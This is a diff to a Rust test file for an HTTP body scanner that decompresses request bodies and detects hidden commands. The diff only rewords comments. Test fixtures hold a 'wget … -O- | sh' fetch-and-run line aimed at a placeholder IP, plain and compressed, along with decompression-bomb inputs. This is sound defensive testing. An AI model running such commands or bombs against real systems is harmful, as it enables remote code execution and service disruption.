@@ -18,7 +18,7 @@ fn found(raw: &[u8]) -> Vec<(String, String)> {
     parts(raw).into_iter().map(shown).collect()
 }
 
-/// The last part of a body.
+/// Returns how the last part of a body was wrapped, and its bytes.
 fn last(head: &str, body: &[u8]) -> (String, String) {
     let raw = [format!("POST / HTTP/1.1\r\n{head}\r\n").as_bytes(), body].concat();
     found(&raw).pop().unwrap_or_default()
@@ -112,11 +112,11 @@ fn codings_are_undone_before_all_else() {
     assert_eq!(last("", &deflate(form)), Default::default());
 }
 
-/// What the stream below holds.
+/// The content of the two streams below.
 const COMMANDS: &str = "wget http://198.51.100.9/x -O- | sh; wget http://198.51.100.9/y -O- | sh";
-/// It as Node's `brotliCompressSync` writes it.
+/// `COMMANDS` as Node's `brotliCompressSync` writes it.
 const BROTLI: &[u8] = b"\x1b\x47\x00\xf8\x1d\x87\xe9\x16\x74\xf7\x13\x3b\xa3\x74\xea\x39\xba\x3b\x3e\x6e\x63\x73\x69\x3a\x82\xa2\xb7\xa3\x1a\xe4\x09\x2f\x6f\x3e\x50\x0a\x57\x45\x43\x45\x75\x6b\x53\x43\xee\x62\x9a\x96\xd8\x31\x08\xc6\x8f\x38";
-/// It as `zstd -19` writes it.
+/// `COMMANDS` as `zstd -19` writes it.
 const ZSTANDARD: &[u8] = b"\x28\xb5\x2f\xfd\x04\x68\x85\x01\x00\x64\x02\x77\x67\x65\x74\x20\x68\x74\x74\x70\x3a\x2f\x2f\x31\x39\x38\x2e\x35\x31\x2e\x31\x30\x30\x2e\x39\x2f\x78\x20\x2d\x4f\x2d\x20\x7c\x20\x73\x68\x3b\x20\x79\x02\x00\xa0\x10\x45\x8b\x7a\x02\x62\xb0\xb7\x01";
 
 #[test]
@@ -125,9 +125,9 @@ fn brotli_and_zstandard_are_opened() {
     let expected = |how: &str| (format!("body, {how} decompressed"), COMMANDS.to_owned());
     assert_eq!(named, expected("Brotli"));
     assert_eq!(last("", ZSTANDARD), expected("Zstandard"));
-    // Nothing else tells that it is Brotli.
+    // Only the header tells that these bytes are Brotli.
     assert_eq!(last("", BROTLI), Default::default());
-    // A window of 2 GiB, and one of a gigabyte in Brotli, which RFC 7932 does not have.
+    // A window of 2 GiB in Zstandard; one of a gigabyte in Brotli, which RFC 7932 does not have.
     let mut long = ZSTANDARD.to_vec();
     long.splice(4..6, [0, 0xa8]);
     for (head, body) in [
@@ -258,7 +258,7 @@ fn what_explodes_is_cut_off() {
     let raw = [POST.as_bytes(), &bomb[..]].concat();
     let sizes: Vec<_> = parts(&raw).iter().map(|part| part.bytes.len()).collect();
     assert_eq!(sizes, [most]);
-    // Small ones that are many: each would fit.
+    // Many small ones, each of which would fit.
     let bombs = (0..MAX_PARTS).map(|number| {
         BASE64_STANDARD.encode(gzip(&[[b'a'; 50_000], [number as u8; 50_000]].concat()))
     });
@@ -338,13 +338,13 @@ fn what_stands_beside_a_stream_is_looked_at() {
             stream.escape_ascii()
         );
     }
-    // In base64 nothing tells these from noise.
+    // These are not tried in base64, where nothing distinguishes them from noise.
     for stream in [&b"x\x9cK\x04\0\0b\0b"[..], b"HKK\x04\0"] {
         let body = [stream, behind.as_bytes()].concat();
         assert!(finds_command("", &body), "{}", stream.escape_ascii());
     }
     let body = [&deflate(b"a")[..], behind.as_bytes()].concat();
     assert!(finds_command("Content-Encoding: deflate\r\n", &body));
-    // Nothing stands beside these.
+    // Nothing stands beside this stream.
     assert_eq!(found(&[POST.as_bytes(), &gzip(b"abc")].concat()).len(), 1);
 }
